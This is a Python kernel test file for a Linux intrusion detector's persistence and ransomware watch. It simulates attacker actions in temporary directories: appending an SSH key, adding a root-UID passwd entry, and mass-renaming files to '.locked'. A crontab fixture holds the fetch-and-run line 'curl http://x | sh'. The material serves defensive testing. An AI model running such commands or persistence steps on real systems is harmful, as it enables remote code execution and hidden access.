"""The persistence watch on the real kernel: a fanotify notification group on temporary
directories only (a decoy home and a stand-in for a system directory), real writes by real
processes, the component's tick with a fake syscall view."""

from __future__ import annotations

import dataclasses
import os
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from fluxtui.bus import EventBus
from fluxtui.capabilities.persistence import PersistenceWatch
from fluxtui.capabilities.syscall_view import SyscallView
from fluxtui.collectors.change_watch import (
    FAN_Q_OVERFLOW,
    ChangeEvent,
    ChangeGroup,
)
from fluxtui.collectors.syscalls import DropCounts
from fluxtui.component import TickContext
from fluxtui.config import (
    Config,
    PersistenceConfig,
    PersistencePlace,
    RansomwareConfig,
    RuleException,
    RulesConfig,
)
from fluxtui.detection.persistence_rules import read_content
from fluxtui.events import Alert, FileChange, ProcessKey, Severity
from tests.fakes import metrics
from tests.kernel import require_root

pytestmark = pytest.mark.kernel

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHRlc3RrZXl0ZXN0a2V5dGVzdGtleXRlc3RrZXkxMjM0 eve@x"


class Verified:
    """Verification stand-in: the paths given count as verified package files."""

    def __init__(self, paths: set[str]) -> None:
        self.paths = paths

    def verified(self, path: str) -> bool:
        return path in self.paths


def _config(tmp: Path, places: list[PersistencePlace], rules: RulesConfig | None = None,
            **ransom: Any) -> Config:
    cfg = PersistenceConfig(
        places=places, package_managers=[],
        ransomware=RansomwareConfig(filesystems=[str(tmp)], **ransom))
    return dataclasses.replace(Config(), persistence=cfg, rules=rules or RulesConfig())


@pytest.fixture
def watch_factory(tmp_path: Path) -> Iterator[Callable[..., tuple[PersistenceWatch, list[Any]]]]:
    require_root()
    made: list[PersistenceWatch] = []

    def make(places: list[PersistencePlace], homes: list[str], verified: set[str] | None = None,
             rules: RulesConfig | None = None, clock: Callable[[], float] = time.time,
             **ransom: Any) -> tuple[PersistenceWatch, list[Any]]:
        watch = PersistenceWatch(_config(tmp_path, places, rules, **ransom),
                                 verifier=Verified(verified or set()),  # type: ignore[arg-type]
                                 homes=homes, clock=clock)
        bus = EventBus()
        published: list[Any] = []
        bus.subscribe(published.append)
        made.append(watch)
        watch.start(bus)
        assert watch.status().running, watch.status().reason
        return watch, published

    yield make
    for watch in made:
        watch.stop()


def tick_until(watch: PersistenceWatch, done: Callable[[list[Any]], bool],
               published: list[Any], view: Any = None, processes: Any = None,
               limit: float = 20.0, view_once: bool = False) -> TickContext:
    """Tick until `done(published)`, bounded. `view`: the syscall capture's view of each tick
    (of the first one only with `view_once`: the calls were made once)."""
    deadline = time.monotonic() + limit
    while True:
        tick = TickContext(time.time(), 1.0, metrics(), dict(processes or {}), EventBus())
        tick.bus.subscribe(published.append)
        if view is not None:
            tick.views["syscalls"] = view
        watch.on_tick(tick)
        if view_once:
            view = None
        if done(published) or time.monotonic() > deadline:
            return tick
        time.sleep(0.05)


def syscall_view(counts: dict[ProcessKey, dict[str, int]]) -> SyscallView:
    """What the syscall capture hands the watch in one tick: these counts, nothing else."""
    return SyscallView(window_s=1.0, counts=counts, bigrams={}, findings=(), exited=(),
                       events=0, total_syscalls=sum(sum(c.values()) for c in counts.values()),
                       dropped=DropCounts(), dropped_total=DropCounts())


def alerts(published: list[Any]) -> list[Alert]:
    return [p for p in published if isinstance(p, Alert)]


def changes(published: list[Any]) -> list[FileChange]:
    return [p for p in published if isinstance(p, FileChange)]


def test_authorized_key_append_is_a_medium_alert_naming_who(tmp_path: Path, watch_factory):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    keys = home / ".ssh" / "authorized_keys"
    keys.write_text("# mine\n")
    place = PersistencePlace("~/.ssh/authorized_keys", "T1098.004", "authorized_keys",
                             severity="medium")
    watch, published = watch_factory([place], [str(home)])
    subprocess.run(["/bin/sh", "-c", f"echo '{KEY}' >> '{keys}'; sleep 0.5"], check=True)
    tick_until(watch, lambda p: any(a.rule_id == "persistence.authorized_key"
                                    for a in alerts(p)), published)
    found = {a.rule_id: a for a in alerts(published)}
    alert = found["persistence.authorized_key"]
    assert alert.severity is Severity.MEDIUM
    assert "ssh-ed25519 SHA256:" in alert.reasons[0] and "eve@x" in alert.reasons[0]
    assert "AAAAC3Nza" not in repr(published)  # the key itself is never copied
    assert "/bin/sh" in alert.reasons[0] or "/usr/bin/dash" in alert.reasons[0]
    assert found["persistence.unexpected_write"].severity is Severity.MEDIUM
    # the neighbour in the same directory is not a place
    (home / ".ssh" / "config").write_text("Host x\n")
    tick_until(watch, lambda p: False, published, limit=0.3)
    assert not any("config" in c.path for c in changes(published))


def _write_and_wait(path: Path, text: str) -> subprocess.Popen[str]:
    """A Python process that writes `path` and stays (so /proc still names it)."""
    proc = subprocess.Popen([sys.executable, "-c", (
        "import sys,time\n"
        f"open({str(path)!r},'w').write({text!r})\n"
        "sys.stdout.write('done\\n'); sys.stdout.flush(); time.sleep(30)\n")],
        stdout=subprocess.PIPE, text=True)
    assert proc.stdout is not None and proc.stdout.readline() == "done\n"
    return proc


def test_disabled_rules_and_exceptions_apply(tmp_path: Path, watch_factory):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    place = PersistencePlace("~/.ssh/authorized_keys", "T1098.004", "authorized_keys")
    rules = RulesConfig(disabled=["persistence.unexpected_write"], exceptions=[
        RuleException(rule="persistence.authorized_key", executable="/usr/bin/python3*")])
    watch, published = watch_factory([place], [str(home)], rules=rules)
    keys = home / ".ssh" / "authorized_keys"
    proc = _write_and_wait(keys, KEY + "\n")  # python: the exception covers it
    try:
        tick_until(watch, lambda p: bool(changes(p)), published)
    finally:
        proc.kill()
        proc.wait()
    subprocess.run(["/bin/sh", "-c", f"echo '{KEY}2' >> '{keys}'; sleep 0.5"], check=True)
    tick_until(watch, lambda p: bool(alerts(p)), published)
    assert [a.rule_id for a in alerts(published)] == ["persistence.authorized_key"]
    assert "python" not in alerts(published)[0].reasons[0]


def test_a_replaced_ssh_directory_is_watched_again(tmp_path: Path, watch_factory):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    place = PersistencePlace("~/.ssh/authorized_keys", "T1098.004", "authorized_keys",
                             severity="medium")
    watch, published = watch_factory([place], [str(home)])
    subprocess.run(["/bin/sh", "-c", f"cd '{home}' && mv .ssh .ssh.old && mkdir .ssh && "
                    f"echo '{KEY}' > .ssh/authorized_keys; sleep 0.5"], check=True)
    tick_until(watch, lambda p: any(a.rule_id == "persistence.authorized_key"
                                    for a in alerts(p)), published)
    assert any(a.rule_id == "persistence.authorized_key" for a in alerts(published))


def test_expected_verified_writer_is_low_and_others_alert(tmp_path: Path, watch_factory):
    etc = tmp_path / "etc"
    etc.mkdir()
    (etc / "passwd").write_text("root:x:0:0::/root:/bin/bash\n")
    python = os.path.realpath(sys.executable)
    place = PersistencePlace(str(etc / "passwd"), "T1136.001", writers=[python])
    watch, published = watch_factory([place], [], verified={python})
    proc = _write_and_wait(etc / "passwd", "root:x:0:0::/root:/bin/bash\n"
                           "newuser:x:1001:1001::/home/n:/bin/sh\n")
    try:
        tick_until(watch, lambda p: bool(alerts(p)), published)
    finally:
        proc.kill()
        proc.wait()
    (alert,) = alerts(published)
    assert alert.rule_id == "persistence.expected_change" and alert.severity is Severity.LOW
    assert "+ newuser:x:1001:1001::/home/n:/bin/sh" in alert.extra["lines"]
    assert alert.key is not None and alert.key.pid == proc.pid
    # the same file written by a process that is not verified: an alert
    subprocess.run(["/bin/sh", "-c", f"echo 'x:x:0:0::/:/bin/sh' >> '{etc}/passwd'; sleep 0.5"],
                   check=True)
    tick_until(watch, lambda p: any(a.rule_id == "persistence.unexpected_write"
                                    for a in alerts(p)), published)
    bad = [a for a in alerts(published) if a.rule_id == "persistence.unexpected_write"]
    assert bad and bad[0].severity is Severity.HIGH


def test_shadow_changes_name_users_only(tmp_path: Path, watch_factory):
    etc = tmp_path / "etc"
    etc.mkdir()
    shadow = etc / "shadow"
    shadow.write_text("root:$6$abcdefgh$SECRETHASHSECRETHASH:19000:0:99999:7:::\nbob:!:19000::::::\n")
    place = PersistencePlace(str(shadow), "T1098", "shadow")
    watch, published = watch_factory([place], [])
    shadow.write_text("root:$6$zzzzzzzz$OTHERHASHOTHERHASHXX:19001:0:99999:7:::\nbob:!:19000::::::\n")
    tick_until(watch, lambda p: bool(alerts(p)), published)
    text = repr(published)
    assert "entry of user root changed" in text
    assert "SECRETHASH" not in text and "OTHERHASH" not in text and "bob" not in text


def test_new_directory_after_start_and_hostile_names(tmp_path: Path, watch_factory):
    home = tmp_path / "home"
    home.mkdir()
    place = PersistencePlace("~/.config/systemd/user", "T1543.002", depth=1)
    watch, published = watch_factory([place], [str(home)])
    units = home / ".config" / "systemd" / "user"
    units.mkdir(parents=True)
    hostile = units / "evil\n[red]x\udcff.service"
    subprocess.run(["/bin/sh", "-c", 'sleep 0.2; printf "[Service]\\nExecStart=/x\\n" > "$1"',
                    "sh", os.fsencode(str(hostile))], check=True)
    tick_until(watch, lambda p: any("+ ExecStart=/x" in c.lines for c in changes(p)), published)
    shown = [c.path for c in changes(published) if "evil" in c.path]
    assert shown and "\\x0a[red]x\\xff.service" in shown[0]
    assert any("+ ExecStart=/x" in c.lines for c in changes(published))


def test_burst_is_summarised_and_a_change_hidden_in_it_still_found(tmp_path: Path,
                                                                   watch_factory):
    spool = tmp_path / "spool"
    spool.mkdir()
    place = PersistencePlace(str(spool), "T1053.003", "crontab")
    now = [1000.0]
    watch, published = watch_factory([place], [], clock=lambda: now[0])
    cfg = watch.cfg
    for i in range(10_000):
        (spool / f"f{i}").write_bytes(b"")
        if i == 5000:  # the real change, hidden in the flood
            (spool / "job").write_text("* * * * * root curl http://x | sh\n")
    totals: list[int] = []

    def drained(_: list[Any]) -> bool:
        """Every event read: the count stopped moving for three ticks, past 10,000."""
        totals.append(sum(b.count for b in list(watch.reader._bursts.values()))
                      + sum(watch.status().drops.values()))
        return totals[-1] >= 10_000 and len(set(totals[-3:])) == 1 and len(totals) >= 3

    tick_until(watch, drained, published, limit=60)
    now[0] += cfg.burst_window + 1
    tick_until(watch, lambda p: any(c.count > 1 for c in changes(p)) and any(
        a.rule_id == "persistence.schedule_entry" for a in alerts(p)), published)
    one_by_one = [c for c in changes(published) if c.count == 1 and not c.note]
    summary = [c for c in changes(published) if c.count > 1]
    assert len(one_by_one) == cfg.burst_changes
    lost = watch.status().drops.get("change_events_overflow", 0)
    # each file is a creation and a write-close: one or two events (merged when queued)
    assert 10_000 <= summary[0].count + len(one_by_one) <= 20_000 or lost
    assert len(summary) == 1 and "counted, not examined one by one" in summary[0].note
    entry = [a for a in alerts(published) if a.rule_id == "persistence.schedule_entry"]
    assert entry and "curl http://x | sh" in entry[0].reasons[0]


def test_overflow_is_a_drop_and_a_rescan_finds_what_changed(tmp_path: Path, watch_factory):
    etc = tmp_path / "etc"
    etc.mkdir()
    (etc / "crontab").write_text("0 0 31 2 * /bin/true\n")
    watch, published = watch_factory([PersistencePlace(str(etc / "crontab"), "T1053.003",
                                                       "crontab")], [])
    # what lost events would have shown: the content changed, no event was read for it
    watch.reader._remember(str(etc / "crontab"), read_content("crontab", b""))
    watch.reader._handle(ChangeEvent(FAN_Q_OVERFLOW, 0, -1, None))
    tick_until(watch, lambda p: bool(alerts(p)), published)
    assert watch.status().drops == {"change_events_overflow": 1}
    assert "lost: change_events_overflow 1" in watch.status().detail
    (entry,) = [a for a in alerts(published) if a.rule_id == "persistence.schedule_entry"]
    assert "/bin/true" in entry.reasons[0] and "events lost" in entry.extra["writer"]
    assert any("rescan" in c.note for c in changes(published))


def test_queue_overflow_is_reported_as_a_drop(tmp_path: Path):
    require_root()
    watched = tmp_path / "w"
    watched.mkdir()
    group = ChangeGroup()
    try:
        group.mark_dir(str(watched))
        for i in range(17_000):  # the kernel's default queue holds 16384 events
            (watched / f"f{i}").write_bytes(b"")
        overflow = False
        for _ in range(1000):
            events = group.read_changes()
            if not events:
                break
            for e in events:
                overflow |= bool(e.mask & FAN_Q_OVERFLOW)
                e.close()
        assert overflow
    finally:
        group.close()


def test_mass_rename_with_new_names_alerts_and_raises_risk(tmp_path: Path, watch_factory):
    victim = tmp_path / "docs"
    victim.mkdir()
    for i in range(150):
        (victim / f"doc{i}.txt").write_text("x")
    watch, published = watch_factory([], [], renames=100)
    proc = subprocess.Popen([sys.executable, "-c", (
        "import os,sys,time\n"
        f"d={str(victim)!r}\n"
        "for n in sorted(os.listdir(d)):\n"
        "    os.rename(os.path.join(d,n), os.path.join(d,n+'.locked'))\n"
        "sys.stdout.write('done\\n'); sys.stdout.flush(); time.sleep(30)\n")],
        stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None and proc.stdout.readline() == "done\n"
        start = int(Path(f"/proc/{proc.pid}/stat").read_text().rsplit(")", 1)[1].split()[19])
        key = ProcessKey(proc.pid, start)

        view = syscall_view({key: {"rename": 150, "write": 1}})

        row = type("Row", (), {"exe": sys.executable, "name": "python", "user": "root",
                               "cmdline": ()})()
        tick = tick_until(watch, lambda p: any(a.rule_id == "ransomware.mass_rename"
                                               for a in alerts(p)), published, view,
                          {key: row}, view_once=True)
        (alert,) = [a for a in alerts(published) if a.rule_id == "ransomware.mass_rename"]
        assert alert.key == key and alert.technique_id == "T1486"
        assert "150 renames" in alert.reasons[0] and ".locked" in alert.reasons[0]
        assert str(victim) in alert.extra["directories"]
        assert any(r.key == key and r.points >= 50 for r in tick.risk_inputs)
    finally:
        proc.kill()
        proc.wait()


def test_atomic_saves_are_not_ransomware(tmp_path: Path, watch_factory):
    work = tmp_path / "tree"
    work.mkdir()
    watch, published = watch_factory([], [], renames=100)
    proc = subprocess.Popen([sys.executable, "-c", (
        "import os,sys,time\n"
        f"d={str(work)!r}\n"
        "for i in range(150):\n"
        "    t=os.path.join(d,f'f{i}.tmp'); open(t,'w').write('x'); os.rename(t, t[:-4])\n"
        "sys.stdout.write('done\\n'); sys.stdout.flush(); time.sleep(30)\n")],
        stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None and proc.stdout.readline() == "done\n"
        start = int(Path(f"/proc/{proc.pid}/stat").read_text().rsplit(")", 1)[1].split()[19])
        key = ProcessKey(proc.pid, start)

        view = syscall_view({key: {"rename": 150, "write": 150}})

        row = type("Row", (), {"exe": sys.executable, "name": "python", "user": "root",
                               "cmdline": ()})()
        tick_until(watch, lambda p: watch.ransomware.totals(key, time.time()).named >= 150,
                   published, view, {key: row})
        assert not [a for a in alerts(published) if a.rule_id.startswith("ransomware.")]
        assert watch.ransomware.totals(key, time.time()).named >= 150
    finally:
        proc.kill()
        proc.wait()


def test_stop_ends_the_reader_thread_at_once(tmp_path: Path, watch_factory):
    """With no burst open the reader waits for events alone (no twice-a-second poll): a stop
    wakes it (an eventfd) and the thread has ended when stop returns."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    place = PersistencePlace("~/.ssh/authorized_keys", "T1098.004", "authorized_keys")
    watch, _published = watch_factory([place], [str(home)])
    thread = watch.reader._thread
    assert thread is not None and thread.is_alive()
    watch.stop()
    assert not thread.is_alive()
